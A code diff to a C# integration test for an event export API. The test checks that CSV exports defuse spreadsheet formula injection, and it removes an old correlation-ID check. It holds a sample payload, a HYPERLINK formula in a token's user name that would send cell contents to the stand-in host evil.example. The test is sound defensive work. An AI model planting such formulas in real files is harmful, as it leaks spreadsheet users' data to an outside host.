@@ -19,7 +19,7 @@ public sealed class EventExportTests(ServiceFixture service) : IntegrationTest(s
     private static readonly string[] CsvColumns =
     [
         "sequence", "effectiveOn", "recordedAt", "type", "streamKey", "locality", "localityName", "source", "programme",
-        "amountVnd", "loanId", "commandId", "correlationId", "userSub", "userName", "userRole", "data",
+        "amountVnd", "loanId", "commandId", "correlationId", "userSub", "userName", "userRole", "data", "hash",
     ];
 
     private HttpClient Finance => Service.Client(Roles.CentralFinance);
@@ -143,8 +143,8 @@ public sealed class EventExportTests(ServiceFixture service) : IntegrationTest(s
         const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
         using var finance = Service.Client(Roles.CentralFinance);
         finance.DefaultRequestHeaders.Authorization = new("Bearer", ServiceFixture.Token(Roles.CentralFinance, name: formula));
-        // A correlation id that a spreadsheet would evaluate is refused at the door (400); names come from tokens.
-        finance.DefaultRequestHeaders.Add("X-Correlation-ID", "corr.2-3");
+        // A correlation id can no longer begin as a formula (the service refuses one outside letters, digits and
+        // . _ : / -, not starting with -); a user's name, from the token, still can.
         (await finance.EntrustCentralBudgetAsync(1_000)).Expect(200);
         using var other = Service.Client(Roles.CentralFinance);
         other.DefaultRequestHeaders.Authorization = new("Bearer", ServiceFixture.Token(Roles.CentralFinance, name: "@SUM(1+1)"));
@@ -153,12 +153,11 @@ public sealed class EventExportTests(ServiceFixture service) : IntegrationTest(s
         var csv = await CsvAsync(Finance, "/api/events?format=csv");
         var ndjson = await NdjsonAsync("/api/events");
 
-        var first = Assert.Single(csv.Where("userName", "'" + formula));
-        Assert.Equal("corr.2-3", csv.Cell(first, "correlationId"));
+        Assert.Single(csv.Where("userName", "'" + formula));
         Assert.Single(csv.Where("userName", "'@SUM(1+1)"));
         // No cell of the file, whoever wrote it, begins as a formula; the JSON lines keep what was sent.
         Assert.All(csv.Rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
-        Assert.Contains(ndjson, l => l.GetProperty("user").GetProperty("name").GetString() == formula && l.GetProperty("correlationId").GetString() == "corr.2-3");
+        Assert.Contains(ndjson, l => l.GetProperty("user").GetProperty("name").GetString() == formula);
     }
 
     private async Task<List<JsonElement>> NdjsonAsync(string url)
